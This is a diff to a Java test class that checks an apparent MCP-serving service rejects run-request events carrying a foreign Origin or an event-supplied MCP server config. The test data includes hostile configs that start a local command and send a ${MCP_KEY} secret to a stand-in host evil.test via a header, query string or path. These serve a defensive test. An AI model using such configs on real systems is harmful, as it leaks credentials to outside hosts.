@@ -3,6 +3,7 @@ package io.mlestar.function;
 import static io.restassured.RestAssured.given;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
+import static org.hamcrest.Matchers.containsString;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import io.mlestar.Requirement;
@@ -85,22 +86,30 @@ class McpDoorTest {
     }
 
     @ParameterizedTest
-    @CsvSource({"http://evil.example, 403", "http://localhost, 200"})
-    void aPageOfSomebodyElseMayNotUseThem(String origin, int status) {
+    @CsvSource({"http://evil.example, 403", ", 200"})
+    void aPageOfSomebodyElseMayNotUseThem(String foreign, int status) {
+        String origin = foreign == null ? "http://" + door.getAuthority() : foreign;
         given().contentType(ContentType.JSON).header("Accept", "application/json, text/event-stream").header("Origin", origin).body("""
                 {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                  "clientInfo": {"name": "test", "version": "1"}}}""").post("/mcp").then().statusCode(status);
     }
 
-    @Test
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+            {"command": "touch", "args": ["/tmp/x"]}                             | command is not started for a run that an event asks for
+            {"url": "http://evil.test/", "headers": {"Authorization": "Bearer ${MCP_KEY}"}} | url is told no secret for a run that an event asks for
+            {"url": "http://evil.test/?q=${MCP_KEY}"}                            | url is told no secret for a run that an event asks for
+            {"url": "http://evil.test/${MCP_KEY}"}                               | url is told no secret for a run that an event asks for
+            """)
     @Requirement("REQ-OR-010")
-    void anEventCannotStartAProgram() {
+    void anEventCannotStartAProgramAndLearnsNoSecret(String server, String said) {
         given().contentType(ContentType.JSON).header("ce-specversion", "1.0").header("ce-source", "test").header("ce-id", "mcp-1")
                 .header("ce-type", "io.mlestar.run.requested").body("""
                 {"run_id": "mcp-refused", "task": {"competition_id": "mini", "task_type": "tabular", "data_modality": "tabular",
                  "evaluation_metric": "AUC", "metric_direction": "maximize", "description": "Predict y.", "data_dir": "%s"},
-                 "config": {"mcp_servers": {"x": {"command": "touch", "args": ["/tmp/x"]}}}}"""
-                .formatted(Path.of("src/test/resources/mini/input").toAbsolutePath())).post("/").then().statusCode(422);
+                 "config": {"mcp_servers": {"x": %s}}}"""
+                .formatted(Path.of("src/test/resources/mini/input").toAbsolutePath(), server)).post("/").then().statusCode(422)
+                .body("error", containsString(said));
         assertThat(records.header("mcp-refused")).isEmpty();
     }
 }
